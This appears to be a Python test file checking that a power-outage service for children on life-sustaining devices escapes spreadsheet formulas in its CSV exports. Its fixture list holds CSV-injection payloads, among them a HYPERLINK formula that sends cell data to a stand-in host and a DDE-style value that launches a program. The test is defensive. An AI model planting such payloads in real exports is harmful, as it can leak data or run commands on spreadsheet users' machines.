"""CSVs the service writes (issue 11.6): a name a spreadsheet would run as a
formula comes out as text, in the affected list (f=csv) and wherever else the
service writes CSV; the cells read back equal the names stored."""
import csv
import datetime as dt
import io

NAMES = ['=HYPERLINK("http://x.invalid/?"&A1,"押して")', "+1-555;cmd", "@SUM(A1:A9)",
         "-2+3+cmd|' /C calc'!A0", "\t=1+1", "例示 ふつう"]


def setup(env):
    env.reset()


def test_affected_list_csv_neutralises_formula_names(env):
    for i, name in enumerate(NAMES):
        r = env.post("/v1/children", {
            "external_id": f"X-{i}", "name": name, "lat": 37.0 + i * 0.0001, "lon": 137.0,
            "guardian_phone": "+81-90-0000-0000" if i == 1 else "090-0000-0000",
            "devices": [{"type": "ventilator", "power_w": 60, "battery_h": 8,
                         "life_sustaining": True}]}, token=env.planner)
        assert r.status == 201, r
    started = (dt.datetime.now(dt.timezone.utc) - dt.timedelta(hours=1)).isoformat()
    ring = [[136.99, 36.99], [137.01, 36.99], [137.01, 37.01], [136.99, 37.01], [136.99, 36.99]]
    r = env.post("/v1/outages", {"type": "Feature", "properties": {"started_at": started},
                                 "geometry": {"type": "Polygon", "coordinates": [ring]}},
                 token=env.planner)
    assert r.status == 201, r
    oid = r.json()["id"]
    res = env.get(f"/v1/outages/{oid}/affected?f=csv", token=env.planner)
    assert res.status == 200, res
    text = res.body.decode("utf-8-sig")
    for line in text.splitlines():
        for cell in next(csv.reader([line])):
            assert not cell or cell[0] not in "=+@\t\r" or cell.startswith("'"), (cell, line)
            assert not (cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()), cell
    rows = list(csv.DictReader(io.StringIO(text)))
    got = {r["external_id"]: r for r in rows}
    for i, name in enumerate(NAMES):
        cell = got[f"X-{i}"]["name"]
        assert cell == (name if name[0] not in "=+-@\t" else "'" + name), (name, cell)
    assert got["X-1"]["guardian_phone"] == "'+81-90-0000-0000"
    # Numbers stay numbers.
    for r in rows:
        float(r["remaining_h"])
